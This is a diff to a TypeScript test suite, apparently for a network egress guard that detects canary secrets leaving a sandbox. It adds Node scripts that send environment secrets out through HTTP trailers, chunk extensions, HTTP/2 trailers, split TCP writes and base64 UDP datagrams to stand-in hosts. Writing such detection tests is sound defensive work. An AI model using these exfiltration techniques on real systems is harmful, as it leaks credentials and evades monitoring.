@@ -11,7 +11,15 @@ import type { Line } from './record-check.ts'
 t.setTimeout(240_000)
 const services: readonly Service[] = ['origins', 'websocket']
 const skip = whyNoLab(services)
-const hosts = ['wss://ws.acme.test', 'api.acme.test', '"**.acme.test"', '"**.evil.test"', 'h1.acme.test']
+const hosts = [
+  'wss://ws.acme.test',
+  'api.acme.test',
+  '"**.acme.test"',
+  '"**.evil.test"',
+  'h1.acme.test',
+  'tcp://other.acme.test:7',
+  'udp://other.acme.test:5000',
+]
 const block = blockPolicy(hosts, 'canaries: true\n')
 const audit = `${auditPolicy}canaries: true\n`
 let homes = 0
@@ -43,6 +51,34 @@ const chat = `const socket = new WebSocket("wss://ws.acme.test/")
 socket.onopen = () => socket.send(JSON.stringify({ key: process.env.DEPLOY_PASSWORD }))
 socket.onmessage = () => { console.log("echoed"); socket.close() }
 socket.onclose = socket.onerror = () => process.exit()`
+
+const send = `'${process.execPath}' -e`
+const h1Trailers = `const { request } = require("node:https")
+const call = request({ host: "h1.acme.test", path: "/upload", method: "POST", headers: { "Transfer-Encoding": "chunked" } })
+call.on("error", () => {}).on("response", answer => answer.resume())
+call.flushHeaders()
+call.addTrailers({ "X-Key": process.env.DEPLOY_PASSWORD })
+call.end()`
+const h2Trailers = `const { connect } = require("node:http2")
+const session = connect("https://api.acme.test").on("error", () => {})
+const call = session.request({ ":method": "POST", ":path": "/upload" }, { waitForTrailers: true, endStream: false })
+call.on("wantTrailers", () => call.sendTrailers({ "x-key": Buffer.from(process.env.DEPLOY_PASSWORD).toString("hex") }))
+call.on("error", () => {}).on("close", () => session.close()).resume().end()`
+const chunkExtension = `const { connect } = require("node:tls")
+const socket = connect({ host: "h1.acme.test", port: 443, servername: "h1.acme.test" }).on("error", () => {})
+socket.setTimeout(3000, () => socket.destroy())
+socket.write("POST /upload HTTP/1.1\\r\\nHost: h1.acme.test\\r\\nConnection: close\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
+socket.write("0;key=" + process.env.DEPLOY_PASSWORD + "\\r\\n\\r\\n")
+socket.resume()`
+const overTcp = `const socket = require("node:net").connect(7, "other.acme.test").on("error", () => {})
+socket.on("data", () => socket.end())
+const text = "key=" + process.env.BACKUP_STORAGE_ACCOUNT_KEY
+socket.write(text.slice(0, 20))
+setTimeout(() => socket.write(text.slice(20)), 50)`
+const overUdp = `const socket = require("node:dgram").createSocket("udp4")
+socket.on("message", () => socket.close())
+socket.send(Buffer.from(process.env.PROD_AZURE_CLIENT_SECRET).toString("base64"), 5000, "other.acme.test")
+setTimeout(() => process.exit(), 2000)`
 
 /** Ways out: the script, how the finding names the place, how it names the encoding. */
 const ways: Readonly<Record<string, { script: string; where: RegExp; how: RegExp; subject: string }>> = {
@@ -83,9 +119,39 @@ const ways: Readonly<Record<string, { script: string; where: RegExp; how: RegExp
     how: /\(base64 twice\)/,
     subject: '~/.git-credentials',
   },
+  'a trailer of HTTP/1': {
+    script: `${send} '${h1Trailers}'`,
+    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
+    how: /credentials/,
+    subject: 'DEPLOY_PASSWORD',
+  },
+  'an extension of a chunk': {
+    script: `${send} '${chunkExtension}'`,
+    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
+    how: /credentials/,
+    subject: 'DEPLOY_PASSWORD',
+  },
+  'a trailer of HTTP/2': {
+    script: `${send} '${h2Trailers}'`,
+    where: /in the trailers or chunk extensions of a POST to api\.acme\.test/,
+    how: /\(hex\)/,
+    subject: 'DEPLOY_PASSWORD',
+  },
+  'a TCP connection': {
+    script: `${send} '${overTcp}'`,
+    where: /in a TCP connection to other\.acme\.test/,
+    how: /credentials/,
+    subject: 'BACKUP_STORAGE_ACCOUNT_KEY',
+  },
+  'a UDP flow': {
+    script: `${send} '${overUdp}'`,
+    where: /in a UDP flow to other\.acme\.test/,
+    how: /\(base64\)/,
+    subject: 'PROD_AZURE_CLIENT_SECRET',
+  },
 }
 
-t.test('in block, a canary that is sent is stopped, told, and the last of the network', { skip }, async t => {
+t.test('I6: in block, a canary that is sent is stopped, told, and the last of the network', { skip }, async t => {
   await using lab = await openLab({ services })
   for (const [name, { script, where, how, subject }] of Object.entries(ways)) {
     await t.test(name, async t => {
@@ -113,6 +179,8 @@ t.test('in block, a canary that is sent is stopped, told, and the last of the ne
       t.same(await lab.origins.requests({ path: '/after' }), [], 'nothing goes out after it')
       for (const { value, anchors } of decoysOf(run.out).canaries) {
         t.notOk(await lab.uplink.contains(value), 'not in any packet that left')
+        t.notOk(await lab.uplink.contains(Buffer.from(value).toString('base64').slice(0, 24)), 'nor in base64')
+        t.notOk(JSON.stringify(await lab.origins.requests()).includes(value), 'nor in any request')
         for (const anchor of anchors) t.notOk(JSON.stringify(first).includes(anchor), 'never written')
       }
       t.same(await lab.dns.queries({ under: 'evil.test' }), [])
@@ -141,7 +209,7 @@ t.test('in audit, the same is told and carried', { skip }, async t => {
   )
   t.match(run.stdout, 'echoed')
   t.match(await lab.origins.requests({ path: '/after' }), [{ method: 'GET' }])
-  t.equal((await lab.origins.requests({ path: '/upload' })).length, 2)
+  t.equal((await lab.origins.requests({ path: '/upload' })).length, 5)
   t.equal(
     run.lines.filter(({ rule, verdict }) => rule?.startsWith('canaries ') === true && verdict === 'observe').length,
     Object.keys(ways).length,
